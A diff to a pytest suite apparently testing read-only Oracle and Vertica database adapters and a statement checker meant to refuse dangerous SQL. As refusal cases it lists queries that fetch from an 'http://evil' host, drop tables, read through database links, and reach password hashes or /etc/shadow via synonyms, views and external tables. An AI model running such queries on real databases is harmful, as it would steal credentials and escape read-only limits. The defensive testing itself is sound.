@@ -15,7 +15,11 @@ from typing import Any
 import pytest
 
 from rho_adapters.db import StatementTimeout
+from rho_adapters.db.oracle import CATALOG_EXTERNAL as ORACLE_EXTERNAL
+from rho_adapters.db.oracle import CATALOG_SYNONYMS as ORACLE_SYNONYMS
+from rho_adapters.db.oracle import CATALOG_VIEWS as ORACLE_VIEWS
 from rho_adapters.db.oracle import OracleDatabase
+from rho_adapters.db.vertica import CATALOG_RELATIONS as VERTICA_RELATIONS
 from rho_adapters.db.vertica import READ_ONLY_SESSION, VerticaDatabase
 from rho_domain.config import DatabaseConfig
 from rho_domain.errors import DatabaseError, StatementRefused
@@ -43,7 +47,9 @@ class FakeCursor:
             raise FakeError("ORA-01013: user requested cancel of current operation")
         if self.conn.fail_on and self.conn.fail_on in sql:
             raise FakeError(self.conn.fail_message)
-        if sql.startswith("SELECT n FROM big"):
+        if sql in self.conn.catalog:  # the adapter's reading of the catalog on connect
+            self.description, self._rows = [("NAME",)], list(self.conn.catalog[sql])
+        elif sql.startswith("SELECT n FROM big"):
             self.description = [("N",)]
             self._rows = [(i,) for i in range(1, 1001)]
         elif sql.startswith("SELECT"):
@@ -74,6 +80,7 @@ class FakeConnection:
         self.fetched: list[int] = driver.fetched
         self.fail_on = driver.fail_on
         self.fail_message = driver.fail_message
+        self.catalog = driver.catalog
         self.call_timeout = 0
         self.is_closed = False
         self.cancelled = threading.Event()
@@ -113,6 +120,13 @@ class FakeDriver:
         self.connections: list[FakeConnection] = []
         self.fail_on = ""
         self.fail_message = ""
+        # what each catalog query answers (none by default): (query text, rows)
+        self.catalog: dict[str, list[tuple[Any, ...]]] = {
+            ORACLE_VIEWS: [],
+            ORACLE_SYNONYMS: [],
+            ORACLE_EXTERNAL: [],
+            VERTICA_RELATIONS: [],
+        }
 
     def connect(self, **kwargs: Any) -> FakeConnection:
         conn = FakeConnection(self, kwargs)
@@ -133,6 +147,9 @@ async def test_oracle_wraps_each_statement_in_a_read_only_transaction() -> None:
     assert conn.kwargs == {"user": "agent", "password": "pw", "dsn": "db.example:1521/ORCL"}
     assert conn.call_timeout == 2500
     assert driver.log == [
+        ORACLE_VIEWS,
+        ORACLE_SYNONYMS,
+        ORACLE_EXTERNAL,
         "<rollback>",
         "SET TRANSACTION READ ONLY",
         "SELECT x FROM dual",
@@ -157,6 +174,9 @@ async def test_oracle_wraps_each_statement_in_a_read_only_transaction() -> None:
         "EXECUTE IMMEDIATE 'DROP TABLE users'",
         "SELECT httpuritype('http://evil').getclob() FROM dual",
         "WITH FUNCTION f RETURN NUMBER IS BEGIN RETURN 1; END; SELECT f FROM dual",
+        # another database, as the link's stored login (passed the check: the read below)
+        "SELECT * FROM users@prod_link",
+        'SELECT name FROM app.users @ "PROD.EXAMPLE.COM"',
     ],
 )
 async def test_oracle_refuses_plsql_packages_and_locks(sql: str) -> None:
@@ -173,7 +193,9 @@ async def test_oracle_fetches_with_fetchmany_and_reports_more_rows() -> None:
     result = await db.query("SELECT n FROM big", max_rows=5, timeout=1)
     assert [r[0] for r in result.rows] == [1, 2, 3, 4, 5]
     assert result.more_rows
-    assert driver.fetched == [1, 5]  # one row to learn its size, then what fits the budget
+    # the catalog's views, synonyms and external tables on connect, then one row to learn
+    # its size, then what fits the budget
+    assert driver.fetched == [1000, 1000, 1000, 1, 5]
 
 
 async def test_oracle_reconnects_a_dead_connection_and_maps_errors() -> None:
@@ -204,6 +226,7 @@ async def test_vertica_sets_the_session_read_only_after_connect() -> None:
     assert kwargs["database"] == "dw"
     assert driver.log == [
         READ_ONLY_SESSION,
+        VERTICA_RELATIONS,
         "SET SESSION RUNTIMECAP '3 seconds'",
         "SELECT x FROM t",
         "<rollback>",
@@ -257,7 +280,12 @@ async def test_vertica_drops_a_connection_with_rows_left_and_commits_in_mutation
     rw = VerticaDatabase("vx", VERTICA, mode=DatabaseMode.MUTATIONS, driver=driver)
     seen = len(driver.log)
     await rw.query("DELETE FROM t", max_rows=1, timeout=1)
-    assert driver.log[seen:] == ["SET SESSION RUNTIMECAP '1 seconds'", "DELETE FROM t", "<commit>"]
+    assert driver.log[seen:] == [
+        VERTICA_RELATIONS,
+        "SET SESSION RUNTIMECAP '1 seconds'",
+        "DELETE FROM t",
+        "<commit>",
+    ]
 
 
 @pytest.mark.parametrize("cls", [OracleDatabase, VerticaDatabase])
@@ -278,3 +306,89 @@ async def test_a_statement_the_server_does_not_stop_is_cancelled_in_time(
     assert (await db.query("SELECT 1 FROM dual", max_rows=1, timeout=1)).rows == ((1,),)
     # Oracle keeps the connection; Vertica drops any connection a statement failed on.
     assert len(driver.connections) == (1 if cls is OracleDatabase else 2)
+
+
+# The catalogs the check refuses by name, read under a name an administrator gave them: the
+# check let each through (it knew no such name). Now the adapter reads, on connect, the
+# views and synonyms not the server's own, and the check judges them where named. And the
+# external tables, whose reads read server files (a PREPROCESSOR runs a program), refused.
+ORACLE_ALIASES = {
+    ORACLE_SYNONYMS: [
+        ("USERS_PW", "SYS", "USER$", None),  # CREATE PUBLIC SYNONYM users_pw FOR sys.user$
+        ("SQLS", "SYS", "V_$SQL", None),
+        ("REMOTE_T", "APP", "ORDERS", "PROD.EXAMPLE.COM"),  # another database, its login
+        ("MY_ORDERS", "APP", "ORDERS", None),
+    ],
+    ORACLE_VIEWS: [
+        ("PW_VIEW", "SELECT name, spare4 FROM sys.user$"),
+        ("NESTED", "SELECT * FROM users_pw"),  # a view over the synonym
+        ("ORDERS_V", "SELECT id FROM orders"),
+    ],
+    # ORGANIZATION EXTERNAL ... PREPROCESSOR exec_dir:'unzip.sh'
+    ORACLE_EXTERNAL: [("FEED", "ORACLE_LOADER", "DATA_DIR")],
+}
+ORACLE_REFUSED = [
+    ("SELECT name, spare4 FROM users_pw", "USER$ holds password hashes"),
+    ("SELECT sql_text FROM app.sqls", "V_$SQL shows other sessions' statement texts"),
+    ("SELECT * FROM pw_view", "the view PW_VIEW runs"),
+    ("SELECT * FROM nested", "USER$ holds password hashes"),
+    ("SELECT * FROM remote_t", "another database's"),
+    ("SELECT * FROM app.feed", "FEED is an external table (ORACLE_LOADER, directory DATA_DIR)"),
+]
+VERTICA_ALIASES = {
+    VERTICA_RELATIONS: [
+        ("PW_Copy", "SELECT user_name, password, salt FROM v_catalog.passwords", ""),
+        ("requests", "SELECT request FROM v_internal.dc_requests_issued", ""),
+        ("ok_v", "SELECT a FROM public.t", ""),
+        ("Feed", "", "COPY FROM '/etc/shadow' DELIMITER ':'"),
+    ]
+}
+VERTICA_REFUSED = [
+    ("SELECT * FROM pw_copy", "passwords holds password hashes"),
+    ("SELECT request FROM public.requests", "dc_requests_issued is the server's internal"),
+    ("SELECT * FROM feed", "Feed is an external table (COPY FROM '/etc/shadow'"),
+]
+
+
+@pytest.mark.parametrize(
+    ("cls", "config", "catalog", "refused", "reads"),
+    [
+        (OracleDatabase, ORACLE, ORACLE_ALIASES, ORACLE_REFUSED, ["my_orders", "orders_v"]),
+        (VerticaDatabase, VERTICA, VERTICA_ALIASES, VERTICA_REFUSED, ["ok_v"]),
+    ],
+)
+async def test_synonyms_and_views_over_refused_catalogs_are_judged_by_what_they_read(
+    cls: type[OracleDatabase] | type[VerticaDatabase],
+    config: DatabaseConfig,
+    catalog: dict[str, list[tuple[Any, ...]]],
+    refused: list[tuple[str, str]],
+    reads: list[str],
+) -> None:
+    driver = FakeDriver()
+    driver.catalog.update(catalog)
+    db = cls("x", config, driver=driver)
+    try:
+        for sql, said in refused:
+            with pytest.raises(StatementRefused) as info:
+                await db.query(sql, max_rows=1, timeout=1)
+            assert info.value.by == "check", (sql, info.value)
+            assert said in str(info.value), (sql, info.value)
+            assert sql not in driver.log  # never sent
+        for name in reads:  # an administrator's names for an application's tables read
+            await db.query(f"SELECT * FROM {name}", max_rows=1, timeout=1)
+            assert f"SELECT * FROM {name}" in driver.log
+    finally:
+        await db.aclose()
+
+
+async def test_a_database_link_is_refused_by_the_check_alone() -> None:
+    """``users@prod_link`` reads another database: the read-only transaction does not stop a
+    distributed read, so without the check the statement reaches the server."""
+    driver = FakeDriver()
+    unchecked = OracleDatabase("ora", ORACLE, driver=driver, check_statements=False)
+    await unchecked.query("SELECT * FROM users@prod_link", max_rows=1, timeout=1)
+    assert "SELECT * FROM users@prod_link" in driver.log
+    with pytest.raises(StatementRefused, match="reads another database through a database link"):
+        await OracleDatabase("ora", ORACLE, driver=driver).query(
+            "SELECT * FROM users@prod_link", max_rows=1, timeout=1
+        )
